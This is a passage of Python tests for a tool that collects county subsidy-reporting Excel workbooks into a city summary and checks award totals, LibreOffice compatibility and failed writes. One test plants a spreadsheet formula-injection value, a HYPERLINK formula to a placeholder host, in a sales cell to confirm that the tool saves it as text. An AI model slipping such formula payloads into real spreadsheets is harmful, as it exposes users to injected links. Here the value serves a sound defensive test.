        "T_PROMO": [[county, f"{county}活动{i}", None, v] for i, v in enumerate((1_000_000, 2_500_000 + k, 700_000))],
        "T_TRAINING": [[county, f"{county}基础班", "基础", 40 + k, 30_000], [county, f"{county}高管班", "高管", 20, 50_000 + k]],
        "T_FACILITY": [[county, f"{county}冷链公司", "冷库", 900_000 + k, 60_000]],
        "T_POOR_SITE": [[county, f"{county}网点", "某村", 200_000 + 1_000 * k]],
        "T_PURCHASE": [[county, f"{county}收购商", 150_000 + k, "是" if k % 2 else "否"]],
        "T_DEMO": [
            [county, f"{county}示范镇", "省级电商示范镇", None],
            *([[county, f"{county}示范村", "省级电商示范村", None]] if k % 2 else []),
            [county, f"{county}旅游名镇", "省级特色旅游名镇", None],
        ],
    }


def test_round_trip_build_counties_collect_refresh_equals_the_engine(tmp_path, city_bytes):
    """build → counties → fill each county file through openpyxl → collect → refresh: the refreshed
    totals per rule and the annex counts equal the engine's figures computed from the fixture."""
    from xl_ecom.policy import load_plan
    from xl_ecom.workflows import refresh

    plan = load_plan()
    city = tmp_path / layout.WORKBOOK_NAME
    city.write_bytes(city_bytes)
    paths = counties.make_county_workbooks(tmp_path / "out")
    returned = tmp_path / "县区报表"
    returned.mkdir()
    data = {}
    for k, path in enumerate(paths):
        data[path.stem] = _fixture(path.stem, k)
        fill(returned / path.name, path.read_bytes(), data[path.stem])
    report = collect.collect(returned, into=city)
    assert report.exit_code == 1 and all(f.status == collect.MERGED for f in report.files)
    assert {p.message for p in report.all_problems()} == {"上行网络销售额(元)“-1”不能为负数"}
    assert len(report.all_problems()) == len(paths)

    result = refresh.refresh_workbook(city).result
    on = result.on
    expected: dict[str, int] = {}
    for t in TABLES:
        for award in t.awards:
            rule = engine.get_rule(award.rule)
            for tables_ in data.values():
                rows = [dict(zip([c.key for c in t.columns], r)) for r in tables_.get(t.key, []) if not (t.key == "T_SALES" and r[3] == -1)]
                args = [[row.get(award.inputs.get(name)) for name in rule.input_names] for row in rows]
                if award.cumulative_by:
                    cents = engine.calculate_sequence(award.rule, args, on=on)
                else:
                    cents = [engine.calculate_cents(award.rule, *a, on=on) for a in args]
                expected[award.rule] = expected.get(award.rule, 0) + sum(c for c in cents if c)
    for county, tables_ in data.items():
        kinds = [r[2] for r in tables_["T_DEMO"]]
        tourism = engine.calculate_cents("AWARD_TOURISM", kinds.count("省级特色旅游名镇"), kinds.count("省级特色旅游名村"), on=on)
        expected["AWARD_TOURISM"] = expected.get("AWARD_TOURISM", 0) + (tourism or 0)
        assert result.actuals[county]["demo_towns"] == kinds.count("省级电商示范镇")
        assert result.actuals[county]["demo_villages"] == kinds.count("省级电商示范村")
    got = {rule: cents for rule, (_, cents) in result.by_rule.items()}
    assert {r: c for r, c in got.items() if c} == {r: c for r, c in expected.items() if c}
    assert len([c for c in expected.values() if c]) >= 10  # the fixture reaches (almost) every rule
    assert result.total_cents == sum(expected.values()) > 0
    assert len(plan.counties) == len(paths)


def test_a_county_file_saved_by_libreoffice_is_collected(city, folder, county_bytes, tmp_path):
    """Clerks fill the workbook in WPS or LibreOffice: after LibreOffice saved it (its own package,
    cached formula results), the marker, headers and values still come through."""
    import libreoffice

    typed = tmp_path / "typed"
    typed.mkdir()
    def formula(wb):  # a formula the clerk typed; LibreOffice saves its result with it
        wb[table("T_SALES").sheet]["D5"].value = "=1000*2"

    fill(typed / "寿县.xlsx", county_bytes("寿县"), {
        "T_SALES": [SHOU["T_SALES"][0], ["寿县", '=HYPERLINK("http://x.example")', None, None, None, None]],
        "T_DEMO": SHOU["T_DEMO"],
    }, edit=formula)
    (saved,) = libreoffice.convert([typed / "寿县.xlsx"], folder)
    report = collect.collect(folder, into=city)
    assert report.files[0].status == collect.MERGED, report.to_text()
    assert find(report, "企业销售", "D5", "警告", "是公式“=1000*2”，已按其保存的计算结果“2000”读取")
    assert find(report, "企业销售", "B5", "警告", "以公式符号开头，已按文本保存")
    assert rows_of(city, "T_SALES") == [SHOU["T_SALES"][0], ["寿县", '=HYPERLINK("http://x.example")', None, 2000, None, None]]
    assert rows_of(city, "T_DEMO") == SHOU["T_DEMO"]


def test_award_formulas_follow_the_workbooks_policy_date_when_the_compiler_takes_one(city, folder, county_bytes, monkeypatch):
    from xl_ecom.workflows import settings

    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)  # before the compiler is replaced
    original = sheets.award_formula
    seen = set()

    def award_formula(table_, award, row, first_row, on=None):
        seen.add(on)
        return original(table_, award, row, first_row)

    monkeypatch.setattr(sheets, "award_formula", award_formula)
    assert collect.collect(folder, into=city).exit_code == 0
    assert seen == {settings.read_settings(city)["政策日期"]}


def test_collect_into_a_plain_xlsx_and_a_failed_write(tmp_path, folder, county_bytes, monkeypatch):
    city = tmp_path / "市级汇总.xlsx"
    city.write_bytes(build.build_xlsx_bytes())
    fill(folder / "寿县.xlsx", county_bytes("寿县"), SHOU)
    report = collect.collect(folder, into=city)
    assert report.exit_code == 0 and rows_of(city, "T_SALES") == SHOU["T_SALES"]
    with zipfile.ZipFile(city) as z:
        assert xlsm.VBA_PROJECT_PART not in z.namelist()

    before = city.read_bytes()

    def refuse(*_a, **_k):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(safeio, "write_atomically", refuse)
    fill(folder / "寿县.xlsx", county_bytes("寿县"), {"T_DEMO": SHOU["T_DEMO"]})
    report = collect.collect(folder, into=city)
    assert report.exit_code == 2 and report.fatal.startswith("无法写入“市级汇总.xlsx”（Permission denied），原文件未改动")
    assert "报送已登记到台账，再次汇总同一文件夹即可更新市级工作簿" in report.fatal
    assert report.files[0].status == collect.MERGED and report.changes == []  # in the ledger, not yet in the view
    assert city.read_bytes() == before
    monkeypatch.undo()
    again = collect.collect(folder, into=city)  # the same file again: no new version, the view catches up
    assert again.written and "与台账中寿县的第2版内容相同，未重复登记" in again.to_text()
    assert rows_of(city, "T_DEMO") == SHOU["T_DEMO"]
